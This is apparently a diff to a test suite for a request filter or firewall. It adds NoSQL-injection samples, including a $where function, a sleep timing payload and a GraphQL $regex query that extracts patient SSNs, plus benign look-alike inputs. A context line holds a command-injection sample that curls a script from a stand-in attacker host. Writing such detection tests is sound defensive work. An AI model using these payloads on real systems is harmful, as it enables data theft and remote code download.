@@ -154,6 +154,11 @@ ATTACKS = [
     ("scanner", raw("GET", "/WEB-INF./web.xml")),
     # a body declared JSON that does not parse is read by argument rules too
     ("nosqli", raw("POST", "/api/login", [("Content-Type", "application/json")], '{"username": {"$gt": undefined}, "password": {"$gt": undefined}}')),
+    # server-side JavaScript as a whole value ($where), and operator objects inside a JSON string (GraphQL arguments)
+    ("nosqli", q("function(){return version()}", name="nickname")),
+    ("nosqli", js({"theme": "function() { sleep(5000) }"})),
+    ("nosqli", raw("POST", "/graphql", [("Content-Type", "application/json")],
+                   json.dumps({"query": '{ doctors(search: "{ \\"patients.ssn\\": { \\"$regex\\": \\".*\\"} }") { name } }'}))),
     # command separators with spaces between them; a command word with shell-like arguments
     ("rce", q("&& | dir c:\\")),
     ("rce", q("1 && curl http://evil.example/x.sh")),
@@ -275,6 +280,9 @@ BENIGN = [
     ("tasklist-question", q("tasklist explained")),
     ("netstat-question", q("netstat -p output?")),
     ("ellipsis-only", q("..............", name="s")),
+    ("js-docs-function", form("Pass a callback: setTimeout(function() { return done(); }, 10) runs it later.")),
+    ("js-function-in-post", js({"content": "```js\nconst f = function() { return version; };\nexport default f;\n```"})),
+    ("mongo-docs-prose", form("In MongoDB, $regex matches strings and $ne means not equal; see the query operators page.")),
     ("jwt-param", q("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjMiLCJuYW1lIjoiQW5uYSJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ", name="token")),
 ]
 
